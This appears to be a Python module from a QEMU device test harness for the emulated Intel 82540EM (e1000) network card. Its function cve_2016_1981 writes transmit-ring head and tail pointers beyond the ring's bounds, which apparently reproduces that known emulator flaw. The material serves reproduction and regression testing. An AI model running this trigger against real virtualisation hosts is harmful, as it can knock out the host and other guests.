# SPDX-License-Identifier: GPL-2.0
"""Intel's 82540EM network card"""

DEVICES = ("e1000,netdev=net,mac=52:54:00:12:34:56",)
BACKENDS = ("-netdev hubport,id=net,hubid=0",)
# A register that has the same value after each reset: STATUS
PROBE = 0, 0x8

TCTL, TDBAL, TDLEN, TDH, TDT = 0x400, 0x3800, 0x3808, 0x3810, 0x3818
TCTL_EN = 2
DESCRIPTOR = 16


def cve_2016_1981(guest):
    """The ring has eight descriptors, and the first to be sent is said to be behind it."""
    bar = guest.device.bars[0]
    bar.write(TDBAL, guest.alloc(8 * DESCRIPTOR))
    bar.write(TDLEN, 8 * DESCRIPTOR)
    bar.write(TCTL, TCTL_EN)
    bar.write(TDH, 0x1000)
    bar.write(TDT, 0x2000)
